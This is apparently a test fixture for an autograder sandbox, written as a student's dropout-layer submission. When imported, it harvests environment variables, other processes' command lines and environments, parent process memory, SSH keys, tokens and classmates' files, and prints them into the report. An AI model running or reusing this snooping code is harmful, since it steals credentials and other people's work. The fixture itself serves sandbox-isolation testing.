"""Reads what it should not, and prints it (its output lands in the instructor's report): every
file under the temporary folders and the homes it can reach (classmates' sandbox copies, the
instructor's ~/.ssh), the command line and environment of every process in /proc (the grader's
rubric, seed and tokens), its own environment, and /proc/<parent>/mem. The test plants secrets in
each of those places; none may appear in any output."""

import os
import time

import numpy as np

EXPECT_STATUS = "graded"
EXPECT_MAX_SCORE = 6


def read(path, limit=4096):
    try:  # never block on a FIFO it comes across
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return ""
    try:
        return os.read(fd, limit).decode("utf-8", "replace")
    except OSError:
        return ""
    finally:
        os.close(fd)


def valuable(text):
    """What a spy keeps (its output is capped): tokens, keys, the grader's rubric and seed."""
    return any(word in text.upper() for word in ("TOKEN", "SECRET", "PRIVATE KEY", "--SEED", "--RUBRIC"))


found = ["ENVIRON " + repr(dict(os.environ))]
try:  # the most valuable first (its output is capped): other processes' environments and arguments
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
except OSError:
    pids = []
for pid in pids:
    seen = f"{read(f'/proc/{pid}/cmdline', 1000)!r} {read(f'/proc/{pid}/environ', 8000)!r}"
    if valuable(seen):
        found.append(f"PROC {pid} {seen}")
try:
    with open(f"/proc/{os.getppid()}/mem", "rb") as fh:
        fh.seek(0x400000)
        found.append(f"MEM {fh.read(64)!r}")
except (OSError, ValueError):
    pass
budget = time.monotonic() + 2  # where it can read everything (level weak) there is a lot: within its time limit
for top in (os.path.expanduser("~"), "/home", "/root", "/tmp", "/var/tmp", "/dev/shm"):
    for folder, _, files in os.walk(top):
        if time.monotonic() > budget:
            break
        for name in files[:50]:
            text = read(os.path.join(folder, name), 2000)
            if valuable(text) or (name.endswith(".py") and "dropout" in folder):
                found.append(f"FILE {folder}/{name}: {text[:300]!r}")
print("\n".join(found)[:200_000], flush=True)


class DropoutLayer:
    def __init__(self, p):
        if not 0 <= p < 1:
            raise ValueError(f"p must be in [0, 1), got {p}")
        self.p = p
        self.mask = None

    def forward(self, x, training=True):
        if not training:
            return x
        self.mask = np.random.random_sample(x.shape) >= self.p
        return x * self.mask / (1 - self.p)

    def backward(self, grad):
        return grad * self.mask / (1 - self.p)
